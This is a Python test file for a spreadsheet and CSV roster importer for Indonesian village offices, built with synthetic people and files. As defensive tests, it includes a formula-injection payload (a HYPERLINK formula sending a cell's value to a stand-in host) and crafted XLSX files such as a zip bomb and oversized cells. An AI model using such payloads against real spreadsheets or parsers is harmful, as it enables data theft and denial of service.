"""The files village offices actually send (issue #11 "Reading the files people have", #12 items 7-8).

Every file is built here in code, shaped like the walk found them; each test asserts what the
reader and the row checks keep, reject and ignore.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from chalicelib.domain import roster
from chalicelib.domain.programme import DEFAULT_CATEGORIES, CategoryMatcher
from chalicelib.domain.villages import Unresolved, Village, VillageIndex
from chalicelib.services import import_report
from chalicelib.services.reference import region_rows
from chalicelib.services.roster_check import Rules, check, require_columns
from devtools.people import nik_for

TODAY = date(2025, 10, 15)


def _index() -> VillageIndex:
    rows = region_rows()
    districts = {r["code"]: r["name"] for r in rows if r["level"] == "district"}
    return VillageIndex(Village(r["code"], r["name"], r["parent_code"], districts[r["parent_code"]])
                        for r in rows if r["level"] == "village" and r["code"].startswith("16.03."))


VILLAGES = _index()


def _rules(**defaults) -> Rules:
    return Rules("16.03", DEFAULT_CATEGORIES, lambda code: code in VILLAGES.by_code, TODAY, VILLAGES, **defaults)


def _code(name: str, district: str | None = None) -> str:
    return next(v.code for v in VILLAGES.by_code.values()
                if v.name == name and (district is None or v.district_name == district))


# Embawang is in Tanjung Agung (16.03.01); "Pagar Dewa" exists in two kecamatan
EMBAWANG = _code("Embawang")
PAGAR_DEWA = sorted((v for v in VILLAGES.by_code.values() if v.name == "Pagar Dewa"), key=lambda v: v.code)
assert len(PAGAR_DEWA) >= 2 and PAGAR_DEWA[0].district_code != PAGAR_DEWA[1].district_code


def _nik(village: str, birth: date, sex: str, serial: int) -> str:
    return nik_for(village, birth, sex, serial)


def _xlsx(sheets: dict[str, list[list]]) -> bytes:
    wb = Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
        if title != "Rekap" and rows and len(rows[0]) == 1:
            ws.merge_cells("A1:H1")  # the title row is merged across the table, as people do
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


HEADER = ["No", "NIK", "Nama Lengkap", "Tempat Lahir", "Tanggal Lahir", "Jenis Kelamin", "No HP / WA", "Desa",
          "Kecamatan", "Jabatan"]


def _person_row(no: int, serial: int, name: str, birth: date, sex: str, phone, village: str, district: str,
                jabatan: str, village_code: str = EMBAWANG, date_text=None) -> list:
    nik = _nik(village_code, birth, "P" if sex.lower().startswith("p") else "L", serial)
    return [no, nik, name, "Muara Enim", date_text or birth.strftime("%d/%m/%Y"),
            sex, phone, village, district, jabatan]


# ---------- header, footer, sheets ----------
def test_xlsx_with_rekap_sheet_titles_blank_rows_and_a_signature_footer():
    people = [
        _person_row(1, 11, "Budi Saputra", date(1964, 10, 2), "Laki-laki", "0812 3456 7890", "Embawang",
                    "Tanjung Agung", "Kepala Desa"),
        _person_row(2, 12, "Siti Aminah", date(1978, 3, 6), "Perempuan", "-", "DESA EMBAWANG", "Tanjung Agung",
                    "Kaur Keuangan"),
        _person_row(3, 13, "Joko Pratama", date(1990, 1, 5), "Lk", None, "embawang", "Kec. Tanjung Agung",
                    "Ketua RT 003"),
    ]
    data = _xlsx({
        "Rekap": [["REKAP PESERTA"], ["Desa", "Jumlah"], ["Embawang", 3]],
        "Data": [["DAFTAR PERANGKAT DESA EMBAWANG TAHUN 2025"], ["Kecamatan Tanjung Agung"], [], HEADER, *people,
                 [None, "JUMLAH", None, None, None, None, None, None, None, 3],
                 [], [None, None, None, None, None, None, None, "Embawang, 2 Oktober 2025"],
                 [None, None, None, None, None, None, None, "Mengetahui,"],
                 [None, None, None, None, None, None, None, "Kepala Desa Embawang"], [], [],
                 [None, None, None, None, None, None, None, "( H. RAHMAN HIDAYAT )"],
                 [None, None, None, None, None, None, None, "NIP. 19700101 199803 1 005"]],
    })
    sheet = roster.read(data, "xlsx")
    assert (sheet.sheet_name, sheet.header_line) == ("Data", 4)
    assert sheet.columns["phone"] == "No HP / WA" and sheet.columns["village_name"] == "Desa"
    assert [r.line for r in sheet.rows] == [5, 6, 7]
    assert [line for line, _ in sheet.ignored_rows] == [8, 10, 11, 12, 15, 16]
    result = check(sheet, _rules())
    assert (result.total, result.rejected, result.errors) == (3, 0, [])
    stored = {v.name: v for v in result.valid}
    assert {v.village_code for v in result.valid} == {EMBAWANG}
    assert [stored[n].category for n in ("Budi Saputra", "Siti Aminah", "Joko Pratama")] == \
        ["kepala_desa", "perangkat_desa", "rt_rw"]
    assert stored["Budi Saputra"].phone == "+6281234567890" and stored["Siti Aminah"].phone is None
    assert stored["Siti Aminah"].birth_date == "1978-03-06" and stored["Joko Pratama"].sex == "L"


def test_rows_after_a_blank_run_with_a_nik_are_still_data_and_blank_runs_stop_reading():
    row = _person_row(1, 21, "Dedi Kurniawan", date(1980, 5, 5), "L", None, "Embawang", "Tanjung Agung", "Linmas")
    late = _person_row(2, 22, "Agus Setiawan", date(1981, 6, 6), "L", None, "Embawang", "Tanjung Agung", "Hansip")
    data = _xlsx({"Data": [HEADER, row, [], [], [], [], ["catatan: data sementara"], late]})
    sheet = roster.read(data, "xlsx")
    assert [r.line for r in sheet.rows] == [2, 8]  # a NIK is never dropped as footer
    assert sheet.ignored_rows == [(7, sheet.ignored_rows[0][1])]
    assert {v.category for v in check(sheet, _rules()).valid} == {"linmas"}


def test_no_header_anywhere_names_what_was_found():
    data = _xlsx({"Rekap": [["REKAP"], ["Desa", "Jumlah"]],
                  "Lain": [["Nama", "Tgl Lahir", "Alamat"], ["Budi", "1990-01-01", "Jl. A"]]})
    with pytest.raises(roster.FileError) as exc:
        roster.read(data, "xlsx")
    assert exc.value.code == "HEADER_MISSING" and "nik" in exc.value.message and "Nama" in exc.value.message


def test_header_below_row_30_is_not_searched():
    data = _xlsx({"Data": [["judul"]] * 31 + [HEADER]})
    with pytest.raises(roster.FileError) as exc:
        roster.read(data, "xlsx")
    assert exc.value.code == "HEADER_MISSING" and "30 baris" in exc.value.message


def test_xls_is_refused_with_save_as_xlsx():
    ole = roster.OLE_MAGIC + b"\x00" * 504
    with pytest.raises(roster.FileError) as exc:
        roster.detect_format(ole)
    assert exc.value.code == "FORMAT_UNSUPPORTED" and "simpan sebagai .xlsx" in exc.value.message
    with pytest.raises(roster.FileError):
        roster.detect_format(b"nik;nama\n", filename="data lama.XLS")


# ---------- the walk's CSV ----------
WALK_HEADER = "No;NIK;Nama Lengkap;Tempat Lahir;Tanggal Lahir;Jenis Kelamin;No HP / WA;Desa;Kecamatan;Jabatan"


def _walk_csv(encoding: str, bom: bool) -> bytes:
    pd_a, pd_b = PAGAR_DEWA[0], PAGAR_DEWA[1]
    lines = [
        "DAFTAR PESERTA BPJS KETENAGAKERJAAN;;;;;;;;;", ";;;;;;;;;", WALK_HEADER,
        f"1;{_nik(EMBAWANG, date(1964, 10, 2), 'L', 31)};Zoë Pratama;Muara Enim;2 Oktober 1964;Lk;-;Embawang;"
        "Tanjung Agung;Kepala Desa",
        f"2;{_nik(pd_a.code, date(1978, 3, 6), 'P', 32)};Siti Ma’ruf;Muara Enim;06/03/78;Pr;"
        f"0812-3456-7890 / 0813 1111 2222;Ds. Pagar-Dewa;{pd_a.district_name.upper()};Sekretaris Desa",
        f"3;{_nik(pd_b.code, date(1985, 12, 1), 'L', 33)};Rudi Hartono;Lahat;01-Des-1985;L;tidak ada;pagar dewa;"
        f"Kec. {pd_b.district_name};Anggota BPD",
        ";JUMLAH;;;;;;;;3",
    ]
    text = "\r\n".join(lines) + "\r\n"
    return (b"\xef\xbb\xbf" if bom else b"") + text.encode(encoding)


@pytest.mark.parametrize(("encoding", "bom"), [("utf-8", True), ("cp1252", False)])
def test_the_walks_semicolon_csv_imports(encoding, bom):
    sheet = roster.read(_walk_csv(encoding, bom), "csv")
    assert sheet.encoding == encoding and sheet.header_line == 3
    result = check(sheet, _rules())
    assert (result.total, result.rejected, result.errors) == (3, 0, [])
    assert sheet.ignored_rows[0][0] == 7
    first, second, third = result.valid
    assert (first.name, first.birth_date, first.sex, first.phone, first.category) == \
        ("Zoë Pratama", "1964-10-02", "L", None, "kepala_desa")
    assert (second.name, second.birth_date, second.phone, second.village_code, second.category) == \
        ("Siti Ma’ruf", "1978-03-06", "+6281234567890", PAGAR_DEWA[0].code, "perangkat_desa")
    assert second.warnings == ("PHONE_MULTIPLE",)
    assert [(n.row, n.code) for n in result.notices] == [(5, "PHONE_MULTIPLE")]
    assert (third.birth_date, third.village_code, third.category) == ("1985-12-01", PAGAR_DEWA[1].code, "bpd")


def test_utf8_file_with_one_latin1_byte_rejects_that_row_and_stores_no_mojibake():
    good = _walk_csv("utf-8", bom=False)
    broken = good.replace(b"Rudi Hartono", b"Rudi Hart\xf6no")  # one Latin-1 byte in a UTF-8 file
    sheet = roster.read(broken, "csv")
    assert sheet.encoding == "utf-8"
    result = check(sheet, _rules())
    assert [v.name for v in result.valid] == ["Zoë Pratama", "Siti Ma’ruf"]  # UTF-8 rows decoded as UTF-8
    assert [(e.row, e.code) for e in result.errors] == [(6, "ENCODING_INVALID")]
    assert result.errors[0].nik and "UTF-8" in result.errors[0].message


def test_mojibake_typed_into_a_cell_is_a_row_error():
    data = ("NIK;Nama;Tanggal Lahir;JK;Kode Desa;Jabatan\r\n"
            f"{_nik(EMBAWANG, date(1970, 1, 1), 'P', 41)};ZoÃ« Putri;01/01/1970;P;{EMBAWANG};Linmas\r\n").encode()
    result = check(roster.read(data, "csv"), _rules())
    assert [(e.row, e.field, e.code) for e in result.errors] == [(2, "name", "ENCODING_INVALID")]


# ---------- villages by name ----------
def test_village_names_tolerant_of_case_spacing_punctuation_and_prefixes():
    for text in ("Embawang", "EMBAWANG", " desa  embawang ", "Ds. Embawang", "Em-bawang"):
        assert VILLAGES.village(None, text, None).code == EMBAWANG
    kel = next(v for v in VILLAGES.by_code.values() if v.code.rsplit(".", 1)[1].startswith("1"))
    assert VILLAGES.village(None, f"Kel. {kel.name.lower()}", None).code == kel.code
    assert VILLAGES.village(EMBAWANG.replace(".", ""), None, None).code == EMBAWANG  # 1603012xxx without dots


def test_a_name_in_two_kecamatan_needs_the_kecamatan_and_unknown_names_list_three_close_ones():
    with pytest.raises(Unresolved) as exc:
        VILLAGES.village(None, "Pagar Dewa", None)
    assert exc.value.code == "VILLAGE_AMBIGUOUS" and PAGAR_DEWA[1].district_name in exc.value.message
    assert VILLAGES.village(None, "Pagar Dewa", PAGAR_DEWA[1].district_code).code == PAGAR_DEWA[1].code
    with pytest.raises(Unresolved) as exc:
        VILLAGES.village(None, "Embawangg Ilir", "16.03.01")
    assert exc.value.code == "VILLAGE_UNKNOWN" and "Tanjung Agung" in exc.value.message
    close = exc.value.message.split("yang mirip: ")[1].split(", ")
    assert len(close) == 3 and close[0] == "Embawang"
    assert all(VILLAGES.village(None, n, "16.03.01").district_code == "16.03.01" for n in close)
    with pytest.raises(Unresolved) as exc:
        VILLAGES.district("Tanjung Agungg Raya")
    assert exc.value.code == "DISTRICT_UNKNOWN" and "Tanjung Agung" in exc.value.message


def test_upload_names_the_village_or_kecamatan_for_the_whole_file():
    rows = "\r\n".join([
        "NIK;Nama;Tanggal Lahir;JK;Jabatan",
        f"{_nik(EMBAWANG, date(1970, 2, 2), 'L', 51)};Iwan Gunawan;02/02/1970;L;Linmas"]).encode()
    sheet = roster.read(rows, "csv")
    with pytest.raises(roster.FileError) as exc:
        require_columns(sheet, _rules())
    assert exc.value.code == "HEADER_MISSING" and "desa" in exc.value.message
    result = check(sheet, _rules(default_village=EMBAWANG))
    assert [v.village_code for v in result.valid] == [EMBAWANG]
    pd = PAGAR_DEWA[0]
    named = roster.read(("NIK;Nama;Tanggal Lahir;JK;Desa;Jabatan\r\n"
                         f"{_nik(pd.code, date(1970, 2, 2), 'L', 52)};Iwan Gunawan;02/02/1970;L;Pagar Dewa;Linmas\r\n")
                        .encode(), "csv")
    assert [e.code for e in check(named, _rules()).errors] == ["VILLAGE_AMBIGUOUS"]
    assert [v.village_code for v in check(named, _rules(default_district=pd.district_code)).valid] == [pd.code]


# ---------- categories from jabatan ----------
@pytest.mark.parametrize(("jabatan", "code"), [
    ("Kepala Desa", "kepala_desa"), ("Kaur Keuangan", "perangkat_desa"), ("KASI PEMERINTAHAN", "perangkat_desa"),
    ("Kepala Dusun II", "perangkat_desa"), ("Sekretaris Desa", "perangkat_desa"), ("Wakil Ketua BPD", "bpd"),
    ("Anggota BPD", "bpd"), ("Hansip", "linmas"), ("Guru Ngaji", "guru_ngaji"), ("Operator Desa", "operator_desa"),
    ("Ketua RT 003", "rt_rw"), ("Ketua RW. 02", "rt_rw"), ("Staf Desa", "aparatur_non_perangkat"),
    ("honorer", "aparatur_non_perangkat"), ("Pekebun Sawit", "petani_sawit"), ("petani_sawit", "petani_sawit")])
def test_default_aliases(jabatan, code):
    assert CategoryMatcher(DEFAULT_CATEGORIES).match(jabatan) == code


def test_aliases_are_programme_data_and_unknown_jabatan_lists_the_categories():
    categories = [{"code": "nelayan", "label": "Nelayan", "aliases": ["Nelayan Sungai", "Pencari Ikan"]}]
    matcher = CategoryMatcher(categories)
    assert matcher.match("Pencari Ikan Musi") == "nelayan" and matcher.match("Kaur") is None
    data = ("NIK;Nama;Tanggal Lahir;JK;Kode Desa;Jabatan\r\n"
            f"{_nik(EMBAWANG, date(1970, 3, 3), 'L', 61)};Ali Rahman;03/03/1970;L;{EMBAWANG};Astronot\r\n").encode()
    sheet = roster.read(data, "csv")
    error = check(sheet, _rules()).errors[0]
    assert (error.code, error.column) == ("CATEGORY_UNKNOWN", "Jabatan")
    assert "Kepala Desa" in error.message and "Petani Sawit" in error.message
    assert [v.category for v in check(sheet, _rules(default_category="linmas")).valid] == ["linmas"]
    legacy = [{k: v for k, v in c.items() if k != "aliases"} for c in DEFAULT_CATEGORIES]  # stored before aliases
    assert CategoryMatcher(legacy).match("Kaur Umum") == "perangkat_desa"


# ---------- values ----------
@pytest.mark.parametrize(("text", "expected"), [
    ("2 Oktober 1964", date(1964, 10, 2)), ("02-Okt-1964", date(1964, 10, 2)), ("2 okt. 64", date(1964, 10, 2)),
    ("17 Agustus 1945", date(1945, 8, 17)), ("1 Nopember 1980", date(1980, 11, 1)), ("5 Mei 2001", date(2001, 5, 5)),
    ("Muara Enim, 02-10-1964", date(1964, 10, 2)), ("06/03/78", date(1978, 3, 6)), ("06/03/05", date(2005, 3, 6))])
def test_indonesian_dates(text, expected):
    assert roster.parse_date(text, today=TODAY) == expected


def test_two_digit_year_is_settled_by_the_niks_date():
    assert roster.parse_date("06/03/20", hint=date(1920, 3, 6), today=TODAY) == date(1920, 3, 6)
    assert roster.parse_date("06/03/20", today=TODAY) == date(2020, 3, 6)


@pytest.mark.parametrize(("cell", "expected"), [
    ("-", (None, False)), ("0", (None, False)), ("Tidak Ada", (None, False)), ("tdk ada", (None, False)),
    ("0812 3456 7890", ("0812 3456 7890", False)), ("081234567890 / 081311112222", ("081234567890", True)),
    ("081234567890, 0813-1111-2222", ("081234567890", True)), ("081234567890 081311112222", ("081234567890", True)),
    (81234567890.0, ("81234567890", False))])
def test_phone_cells(cell, expected):
    assert roster.parse_phone(cell) == expected


@pytest.mark.parametrize("header", ["No HP / WA", "NO. HP / WA", "No. Telp/HP", "Nomor WA", "HP", "No. Handphone"])
def test_phone_header_spellings(header):
    assert roster.canonical_column(header) == "phone"


def test_all_errors_of_a_row_in_one_pass():
    data = (b"NIK;Nama;Tanggal Lahir;JK;No HP;Desa;Kecamatan;Jabatan\r\n"
            b"16030112;A;31/02/1990;X;021-555;Embawangxx;Tanjung Agung;Astronot\r\n")
    result = check(roster.read(data, "csv"), _rules())
    assert {e.field: e.code for e in result.errors} == {
        "nik": "NIK_INVALID", "name": "NAME_INVALID", "birth_date": "DATE_INVALID", "sex": "SEX_INVALID",
        "phone": "PHONE_INVALID", "village_code": "VILLAGE_UNKNOWN", "category": "CATEGORY_UNKNOWN"}
    assert {e.column for e in result.errors} >= {"NIK", "Tanggal Lahir", "Desa", "Jabatan"}
    assert all(e.nik == "16030112" and e.name == "A" for e in result.errors)


def test_nik_and_date_both_wrong_are_both_reported():
    nik = _nik(EMBAWANG, date(1970, 4, 4), "L", 71)
    data = f"NIK;Nama;Tanggal Lahir;JK;Kode Desa;Kategori\r\n{nik[:15]};Budi Saputra;1970-04-44;L;{EMBAWANG};linmas\r\n"
    codes = {(e.field, e.code) for e in check(roster.read(data.encode(), "csv"), _rules()).errors}
    assert codes == {("nik", "NIK_INVALID"), ("birth_date", "DATE_INVALID")}


def test_numeric_nik_cells():
    nik = _nik(EMBAWANG, date(1970, 5, 5), "L", 81)
    assert not nik.endswith("0")
    assert roster.parse_nik(int(nik)) == nik and roster.parse_nik(float(nik)) == nik
    with pytest.raises(ValueError, match="digit terakhirnya hilang"):
        roster.parse_nik(int(nik[:15] + "0"))
    data = _xlsx({"Data": [["NIK", "Nama", "Tanggal Lahir", "JK", "Kode Desa", "Kategori"],
                           [int(nik), "Budi Saputra", "05/05/1970", "L", int(EMBAWANG.replace(".", "")), "Linmas"]]})
    assert [v.nik for v in check(roster.read(data, "xlsx"), _rules()).valid] == [nik]


# ---------- the error report ----------
def test_error_report_is_an_indonesian_xlsx_without_formulas():
    data = ("NIK;Nama;Tanggal Lahir;JK;No HP;Kode Desa;Jabatan\r\n"
            '=HYPERLINK("http://x/?"&A2);Budi Saputra;31/02/1990;L;-;' + EMBAWANG + ";Linmas\r\n"
            ";;;;;;\r\n;;;;;;\r\n;;;;;;\r\n;JUMLAH;;;;;1\r\n").encode()
    sheet = roster.read(data, "csv")
    result = check(sheet, _rules())
    from dataclasses import asdict

    report = import_report.build([asdict(e) for e in result.errors], [], sheet.ignored_rows)
    ws = load_workbook(io.BytesIO(report)).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == tuple(import_report.HEADERS)
    assert rows[1][0] == 2 and rows[1][1] == "Ditolak" and rows[1][2].startswith("'=HYPERLINK")
    assert rows[1][3] == "Budi Saputra" and rows[1][6]
    assert rows[-1][:2] == (6, "Diabaikan")
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


# ---------- #12 item 7: crafted XLSX ----------
def _replace_part(data: bytes, name: str, content: bytes, compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", compress) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, content if info.filename == name else src.read(info.filename))
    return out.getvalue()


def _small_roster() -> bytes:
    return _xlsx({"Data": [["NIK", "Nama", "Tanggal Lahir", "JK", "Kode Desa", "Kategori"],
                           [_nik(EMBAWANG, date(1970, 6, 6), "L", 91), "Budi Saputra", "06/06/1970", "L", EMBAWANG,
                            "linmas"]]})


def _sheet_xml(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"])
def test_a_huge_string_is_refused_before_parsing(part):
    original = _small_roster()
    huge = b"A" * 300_000
    if part == "xl/sharedStrings.xml":
        with zipfile.ZipFile(io.BytesIO(original)) as src:
            out = io.BytesIO()
            with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
                for info in src.infolist():
                    dst.writestr(info.filename, src.read(info.filename))
                dst.writestr(part, b"<sst><si><t>" + huge + b"</t></si></sst>")
            data = out.getvalue()
    else:
        data = _replace_part(original, part, _sheet_xml(original).replace(b"Budi Saputra", huge))
    with pytest.raises(roster.FileError) as exc:
        roster.read(data, "xlsx")
    assert exc.value.code == "CELL_TOO_LONG"


def test_a_zip_bomb_is_refused_by_its_ratio():
    sheet = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + \
        b" " * 5_000_000 + b"</sheetData></worksheet>"
    data = _replace_part(_small_roster(), "xl/worksheets/sheet1.xml", sheet)
    with pytest.raises(roster.FileError) as exc:
        roster.read(data, "xlsx")
    assert exc.value.code == "FILE_COMPRESSION_SUSPICIOUS"


def test_a_declared_full_sheet_dimension_and_far_columns_are_not_padded():
    original = _small_roster()
    with zipfile.ZipFile(io.BytesIO(original)) as z:
        xml = z.read("xl/worksheets/sheet1.xml")
    far = b'<c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    xml = re.sub(rb'<dimension ref="[^"]+" ?/>', b'<dimension ref="A1:XFD1048576"/>', xml)
    xml = xml.replace(b"</row></sheetData>", far)
    assert b"XFD1048576" in xml and b"XFD2" in xml
    data = _replace_part(original, "xl/worksheets/sheet1.xml", xml)
    sheet = roster.read(data, "xlsx")  # bench/xlsx_limits.py times the same shape at full size
    assert [v.name for v in check(sheet, _rules()).valid] == ["Budi Saputra"]


def test_a_million_empty_rows_after_the_data_stop_the_reading():
    original = _small_roster()
    with zipfile.ZipFile(io.BytesIO(original)) as z:
        xml = z.read("xl/worksheets/sheet1.xml")
    empty = b"".join(b'<row r="%d"/>' % n for n in range(3, 200_003))
    nik = _nik(EMBAWANG, date(1971, 6, 6), "L", 92).encode()
    xml = xml.replace(b"</sheetData>", empty + b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>' + nik +
                      b"</t></is></c></row></sheetData>")
    data = _replace_part(original, "xl/worksheets/sheet1.xml", xml)
    sheet = roster.read(data, "xlsx")
    assert [r.line for r in sheet.rows] == [2]
    assert sheet.ignored_rows == [(2 + roster.STOP_BLANK_RUN, sheet.ignored_rows[0][1])]
    assert "berhenti" in sheet.ignored_rows[0][1]


def test_declared_sizes_over_the_limits_fail_with_a_code(monkeypatch):
    monkeypatch.setattr(roster, "XLSX_MAX_UNCOMPRESSED", 1000)
    with pytest.raises(roster.FileError) as exc:
        roster.read(_small_roster(), "xlsx")
    assert exc.value.code == "FILE_TOO_LARGE"


def test_errors_kept_on_the_job_stay_under_the_item_size():
    from chalicelib.services import imports

    data = ("NIK;Nama;Tanggal Lahir;JK;Kode Desa;Jabatan\r\n" + "".join(
        f"{_nik(EMBAWANG, date(1970, 1, 1), 'L', 1000 + i)};Nama Panjang Sekali Orang {i};01/01/1970;L;{EMBAWANG};"
        "Jabatan Yang Tidak Ada\r\n" for i in range(1500))).encode()
    from dataclasses import asdict

    errors = [asdict(e) for e in check(roster.read(data, "csv"), _rules()).errors]
    assert len(errors) >= 1500
    kept = imports.kept_errors(errors)
    assert 0 < len(kept) <= imports.ERRORS_KEPT
    assert len(json.dumps(kept, ensure_ascii=False).encode()) <= imports.ERRORS_KEPT_BYTES
    assert len(json.dumps(errors[:imports.ERRORS_KEPT]).encode()) > imports.ERRORS_KEPT_BYTES  # the cap matters


def test_the_fast_cell_reader_reads_every_cell_kind_as_openpyxl_does():
    """The import reads sheets with its own lean cell reader (speed, issue #11): every kind of
    cell must come out as openpyxl's own reader gives it, or rosters would change meaning."""
    from datetime import datetime

    wb = Workbook()
    ws = wb.active
    ws.title = "Data"
    ws.append(["NIK", "Nama", 1603010606700091, 16800, 0.5, True, False, None, "#N/A", "=SUM(1,2)"])
    ws.append([date(1970, 6, 6), datetime(2025, 12, 31, 8, 30), "Siti Aminah", None, None, -3, "0812"])
    ws["AB3"] = "jauh di kanan"
    out = io.BytesIO()
    wb.save(out)
    xml = _sheet_xml(out.getvalue())
    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    assert ns in xml
    extra = (b'<row r="5"><c t="inlineStr"><is><r><t>Dewi </t></r><r><t>Lestari</t></r></is></c>'
             b'<c t="str"><v>teks rumus</v></c><c t="d"><v>2025-10-15T00:00:00</v></c><c t="e"><v>#REF!</v></c>'
             b'<c r="F5" t="inlineStr"><is><t>ke F</t></is></c><c t="b"><v>1</v></c><c><v>7</v></c></row>')
    xml = xml.replace(b"</sheetData>", extra + b"</sheetData>")
    data = _replace_part(out.getvalue(), "xl/worksheets/sheet1.xml", xml)

    def trimmed(values) -> list:
        values = list(values)
        while values and values[-1] is None:
            values.pop()
        return values

    expected = [trimmed(r) for r in load_workbook(io.BytesIO(data), data_only=True)["Data"].iter_rows(values_only=True)]
    sheets = roster._xlsx_worksheets(data)
    title, rows = next(sheets)
    got = {line: trimmed(values) for line, values, _ in rows}
    assert next(sheets, None) is None
    assert title == "Data"
    assert [got.get(n, []) for n in range(1, len(expected) + 1)] == expected
    assert [type(v) for v in got[1][2:6]] == [type(v) for v in expected[0][2:6]]  # True == 1, 16800 == 16800.0
    assert got[5][:3] == ["Dewi Lestari", "teks rumus", datetime(2025, 10, 15)] and got[5][5:] == ["ke F", True, 7]
